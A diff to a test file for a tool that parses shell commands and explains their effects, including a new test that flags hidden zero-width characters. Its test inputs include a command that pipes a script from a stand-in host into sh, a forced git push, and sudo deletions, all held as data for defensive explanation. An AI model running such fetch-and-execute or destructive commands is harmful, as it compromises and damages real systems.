@@ -5,29 +5,29 @@ const PLACE = { cwd: '/srv/project', home: '/home/dev' }
 
 test.each([
   ['ls', ['ls']],
-  ['rm -rf build', ['rm -rf build', '  = deletes /srv/project/build and everything below it']],
+  ['rm -rf build', ['rm -rf build', '  = delete /srv/project/build, with everything below it']],
   [
-    'sudo rm x | tee log',
+    'sudo rm x | tee log; sudo ls',
     [
-      'sudo rm x',
+      'sudo',
       '  rm x',
-      '    = deletes /srv/project/x',
-      'pipe',
-      '  tee log',
-      '    = writes /srv/project/log',
+      '    = delete /srv/project/x',
+      'tee log',
+      '  = write /srv/project/log',
+      'sudo',
+      '  ls',
     ],
   ],
   [
     "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
     [
-      "bash -c 'git push --force && curl https://e.example/i.sh | sh'",
+      'bash -c',
       '  git push --force',
-      '    = overwrites what is on the remote, including commits of other people',
+      '    = act git/force-push: overwrites what is on the remote, including commits of other people',
       '  curl https://e.example/i.sh',
-      '    = fetches from e.example',
-      '  pipe',
-      '    sh',
-      '      = runs what e.example sends',
+      '    = fetch e.example into standard output',
+      '  sh',
+      '    = run runs what e.example sends',
     ],
   ],
 ])('reads %s', (command, lines) => {
@@ -39,11 +39,20 @@ test('says why a command cannot be read', () => {
   expect(commandTree('echo "', PLACE)).toMatchObject({ kind: 'unread', why: expect.stringMatching(/./) })
 })
 
+test('shows a command with characters that nobody sees as a person sees it, and says so', () => {
+  const tree = commandTree('rm\u200b x', PLACE)
+  expect(tree).toMatchObject({ kind: 'read', hidden: expect.stringContaining('zero-width') })
+  expect(tree.kind === 'read' && tree.parts.flatMap((part) => linesOf(part, ''))).toEqual([
+    'rm x',
+    '  = delete /srv/project/x',
+  ])
+})
+
 function linesOf({ text, effects, parts }: CommandPart, indent: string): readonly string[] {
   const more = `${indent}  `
   return [
     `${indent}${text}`,
-    ...effects.map((effect) => `${more}= ${effect.text}`),
+    ...effects.map((effect) => `${more}= ${effect.kind} ${effect.text}`),
     ...parts.flatMap((part) => linesOf(part, more)),
   ]
 }
